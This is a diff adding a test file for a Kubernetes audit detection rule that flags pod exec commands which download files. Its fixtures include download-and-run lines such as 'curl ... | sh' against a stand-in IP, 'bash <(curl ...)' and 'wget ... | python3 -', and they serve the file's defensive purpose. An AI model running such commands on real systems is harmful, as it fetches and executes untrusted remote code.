@@ -1,0 +1,44 @@
+import { execDownload } from '../../../../shared/detection/rules/exec-download.ts';
+import { ruleCases } from '../cases.ts';
+
+const BASE = {
+  verb: 'create',
+  resource: 'pods',
+  subresource: 'exec',
+  namespace: 'shop',
+  name: 'cart-0',
+  command: "sh -c 'curl -fsSL http://203.0.113.9/x.sh | sh'",
+};
+const SHOWN = { severity: 'medium', confidence: 0.4 } as const;
+
+describe('rule exec-download', () => {
+  ruleCases(execDownload, BASE, {
+    fires: [
+      ['kept by curl', { command: 'curl -sSLo /tmp/a https://files.example.com/a' }],
+      ['kept by wget', { command: 'wget https://files.example.com/a' }],
+      ['without a scheme', { command: 'wget 203.0.113.9/a' }],
+      ['into a file', { command: 'sh -c curl -s https://files.example.com/a > /tmp/a' }],
+      ['run by a shell', { command: 'bash -c bash <(curl -s https://files.example.com/a)' }],
+      ['run by Python', { command: 'sh -c wget -qO- https://files.example.com/a.py | python3 -' }],
+      ['after something else', { command: 'sh -c cd /tmp && wget https://files.example.com/a && ls' }],
+      ['by IPv6', { command: 'curl -O http://[2001:db8::9]/a' }],
+      ['only shown', { command: 'curl -s https://files.example.com/a' }, SHOWN],
+      ['shown by wget', { command: 'wget -qO- https://files.example.com/a' }, SHOWN],
+      ['thrown away', { command: 'curl -so /dev/null https://files.example.com/a' }, SHOWN],
+      ['refused', { code: 7 }, { severity: 'medium', confidence: 0.55 }],
+    ],
+    misses: [
+      ['from the own host', { command: 'curl -o a http://localhost:8080/a' }],
+      ['from a Service', { command: 'curl -o a http://cart.shop.svc:8080/a' }],
+      ['from a Service by its whole name', { command: 'wget http://cart.shop.svc.cluster.local/a' }],
+      ['from a Service by its short name', { command: 'wget http://cart:8080/a' }],
+      ['from a private network', { command: 'wget http://10.8.0.3/a' }],
+      ['the state of something', { command: 'curl -s https://api.example.com/healthz' }],
+      ['keys', { command: 'curl -s https://login.example.com/.well-known/jwks.json' }],
+      ['no address', { command: 'curl --version' }],
+      ['the name of a file', { command: 'tar xf curl-8.1.tar.gz/a' }],
+      ['looked for', { command: 'sh -c ps aux | grep curl http://203.0.113.9/' }],
+      ['no such pod', { code: 5 }],
+    ],
+  });
+});
